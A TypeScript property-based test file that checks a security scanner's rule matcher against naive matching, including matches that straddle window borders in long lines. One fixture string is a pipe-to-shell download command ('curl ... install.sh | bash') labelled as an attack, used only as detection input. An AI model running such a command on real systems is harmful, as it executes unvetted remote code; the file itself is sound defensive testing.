import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { compilePack } from "../../../scripts/rules/compile.ts";
import { readRules } from "../../../scripts/rules/read.ts";
import { REACH } from "../../../src/scanners/rules/candidates.ts";
import type { StoredMatcher } from "../../../src/scanners/rules/pack.ts";
import { findMatches, type Match } from "../../../src/scanners/rules/matcher.ts";
import { unifyLineBreaks } from "../../../src/text/line-breaks.ts";
import { openPack } from "../../../src/scanners/rules/open-pack.ts";
import { literalsOf } from "./literals-of.ts";
import { matchEveryLine, matchWholeText } from "./naive.ts";

const pack = openPack(compilePack(readRules("rules").filter(({ id }) => id.startsWith("rules/"))));
/** Texts that rules are known to fire on, and their near misses. */
const files = [...readFixtures("rules/rules"), ...readFixtures("examples")];
const lines = files.flatMap(({ text }) => text.split("\n")).filter((each) => each !== "");

function readFixtures(folder: string): readonly { readonly path: string; readonly text: string }[] {
  return readdirSync(folder, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile() && entry.name !== "rule.yaml")
    .map((entry) => join(entry.parentPath, entry.name))
    .map((path) => ({ path, text: readFileSync(path, "utf8") }));
}

const literal = fc.constantFrom(...literalsOf(pack.stored));
const line = fc.constantFrom(...lines);
/** A known line with one character gone or replaced. */
const nearMiss = fc
  .tuple(line, fc.nat(), fc.constantFrom("", " ", "é", "X", "\n", "\r"))
  .map(([text, at, put]) => text.slice(0, at % text.length) + put + text.slice((at % text.length) + 1));
const filler = fc.constantFrom(
  " ",
  "\n",
  "\r\n",
  "\r",
  "\n\n",
  ". ",
  "日本",
  "é",
  "😀",
  "\u2028",
  "x".repeat(900),
  " ab".repeat(700),
  "word ".repeat(900),
  "-".repeat(3072),
);
const cased = fc
  .tuple(fc.oneof(literal, line, nearMiss), fc.boolean())
  .map(([text, isLoud]) => (isLoud ? text.toUpperCase() : text));
/** As whoever calls the matcher gives it: LF only, and lower case keeps the length of every normalised text. */
const text = fc
  .array(fc.oneof(cased, filler), { minLength: 1, maxLength: 10 })
  .map((parts) => unifyLineBreaks(parts.join("").replaceAll("İ", "I")).text);

/** In both forms, as if the text were its own normalised form. */
function findIn(of: string, wanted: (matcher: StoredMatcher) => boolean): readonly Match[] {
  return [...findMatches(of, "normalised", pack, wanted), ...findMatches(of, "original", pack, wanted)];
}

function matchesOf(of: string, isMultiline: boolean): ReadonlySet<string> {
  const found = findIn(of, ({ multiline }) => multiline === isMultiline);
  return new Set(found.map(({ matcher, start, end }) => `${pack.matchers.indexOf(matcher)} ${start} ${end}`));
}

test("nothing is lost against every pattern on every line", () => {
  fc.assert(
    fc.property(text, (of) => {
      expect(matchesOf(of, false)).toEqual(matchEveryLine(of, pack));
    }),
    { numRuns: 150 },
  );
});

test("in each fixture the same is found as by every pattern, so the property above has something to lose", () => {
  let found = 0;
  for (const { path, text: of } of files) {
    const naive = matchEveryLine(of, pack);
    expect(matchesOf(of, false), path).toEqual(naive);
    found += naive.size;
  }
  expect(found).toBeGreaterThan(300);
}, 60_000);

test("no multi-line match is lost, however long the lines around it", () => {
  fc.assert(
    fc.property(text, (of) => {
      const found = findIn(of, ({ multiline }) => multiline);
      for (const { index, start, end } of matchWholeText(of, pack, REACH)) {
        const isFound = found.some(
          (match) => match.matcher === pack.matchers[index] && match.start < end && start < match.end,
        );
        expect(isFound, `${index} ${JSON.stringify(of.slice(start, end))}`).toBe(true);
      }
    }),
    { numRuns: 150 },
  );
});

describe("across the border of two windows", () => {
  const attack = "curl -fsSL https://example.test/install.sh | bash";

  test.each([0, 3000, 3040, 3071, 3072, 3073, 4047, 4048, 4090, 4096, 6143, 7000])(
    "a match at %i of a long line",
    (at) => {
      // Blanks alone would push the attack off the screen, which is a finding of its own.
      const of = `${" -".repeat(at).slice(0, at)}${attack}${" ".repeat(5000)}`;
      const found = findIn(of, () => true);
      expect(found.length).toBeGreaterThan(0);
      expect(Math.min(...found.map(({ start }) => start))).toBeGreaterThanOrEqual(at);
      expect(matchesOf(of, false)).toEqual(matchEveryLine(of, pack));
    },
  );
});

test("matches come in the order of the text, and each once", () => {
  fc.assert(
    fc.property(text, (of) => {
      const found = findMatches(of, "normalised", pack, () => true);
      const places = found.map(({ matcher, start, end }) => `${start} ${end} ${pack.matchers.indexOf(matcher)}`);
      expect(new Set(places).size).toBe(places.length);
      expect(found.every(({ start }, index) => start >= (found[index - 1]?.start ?? 0))).toBe(true);
    }),
    { numRuns: 50 },
  );
});
